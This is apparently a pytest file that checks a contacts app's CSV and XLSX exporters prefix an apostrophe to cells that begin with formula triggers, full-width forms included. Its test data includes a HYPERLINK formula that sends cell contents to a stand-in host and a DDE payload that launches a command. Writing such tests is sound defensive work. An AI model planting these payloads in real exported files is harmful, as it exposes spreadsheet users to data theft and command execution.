"""Formula-injection neutralisation: every dangerous first character, full-width too."""

from __future__ import annotations

import csv
import io
import unicodedata

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from relationdesk.exporting.csv_writer import write_csv
from relationdesk.exporting.injection import TRIGGERS, is_dangerous, neutralise, restore
from relationdesk.exporting.options import ExportOptions
from relationdesk.exporting.xlsx_writer import write_xlsx
from tests.unit.exporting.conftest import customer, phone

DANGEROUS = [
    "=1+1",
    "+1",
    "-1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    '=HYPERLINK("http://evil.example/?q="&A1,"click")',
    "＝1+1",  # full-width equals
    "＋81",
    "－5",
    "＠SUM(A1)",
    "﹦1",  # small equals sign: NFKC folds it to '='
    "⁼1",  # superscript equals
]
SAFE = ["", "山田", "090-1234-5678", "a=b", " =1", "1-2", "'", "ー長音", "−5"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_dangerous_cells_get_an_apostrophe(text):
    """A cell starting with = + - @ tab or CR, or their full-width forms, is neutralised."""
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("text", SAFE)
def test_safe_cells_stay_as_they_are(text):
    """Other cells are written unchanged (U+2212 and ー are not folded to '-' by NFKC)."""
    assert neutralise(text) == text


def test_a_phone_abroad_is_neutralised_too():
    """The rule holds for every cell: +81 90-... gets an apostrophe (documented choice)."""
    assert neutralise("+81 90-1234-5678") == "'+81 90-1234-5678"
    assert neutralise("090-1234-5678") == "090-1234-5678"


def test_apostrophes_before_a_trigger_get_one_more():
    """A text already shaped like a neutralised cell stays distinguishable."""
    assert neutralise("'=1") == "''=1"
    assert restore("''=1") == "'=1"
    assert restore("'=1") == "=1"
    assert restore("'abc") == "'abc"


@given(st.text())
def test_restore_undoes_neutralise(text):
    """restore(neutralise(t)) == t, and no neutralised text starts like a formula."""
    out = neutralise(text)
    assert restore(out) == text
    assert not out or unicodedata.normalize("NFKC", out[0])[:1] not in TRIGGERS


INJECTED_NAME = "=cmd|' /C calc'!A0"


def test_csv_cells_are_neutralised():
    """Names, notes, tags and phones abroad come out of the CSV writer neutralised."""
    person = customer(
        family_name=INJECTED_NAME,
        display_name="＋山田",
        note="-5% off",
        tags=("@vip",),
        phones=(phone("+1 212-555-0100", primary=True),),
    )
    out = io.BytesIO()
    write_csv([person], out, ExportOptions(language="en"))
    rows = list(csv.DictReader(io.StringIO(out.getvalue().decode("utf-8-sig"))))
    assert rows[0]["Family name"] == "'" + INJECTED_NAME
    assert rows[0]["Display name"] == "'＋山田"
    assert rows[0]["Note"] == "'-5% off"
    assert rows[0]["Tags"] == "'@vip"
    assert rows[0]["Phone"] == "'+1 212-555-0100"
    for cell in rows[0].values():
        assert not is_dangerous(cell) or cell.startswith("'")


def test_xlsx_cells_are_text_not_formulas(tmp_path):
    """In the workbook the same cells are plain strings with the apostrophe, never formulas."""
    path = tmp_path / "x.xlsx"
    person = customer(family_name="=1+1", note="＝SUM(A1:A9)", phones=(phone("+1 212-555-0100"),))
    with path.open("wb") as out:
        write_xlsx([person], out, ExportOptions(language="en"))
    sheet = load_workbook(path).active
    headers = [c.value for c in sheet[1]]
    cells = dict(zip(headers, sheet[2], strict=True))
    for name, expected in (
        ("Family name", "'=1+1"),
        ("Note", "'＝SUM(A1:A9)"),
        ("Phone", "'+1 212-555-0100"),
    ):
        assert cells[name].value == expected
        assert cells[name].data_type == "s"
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
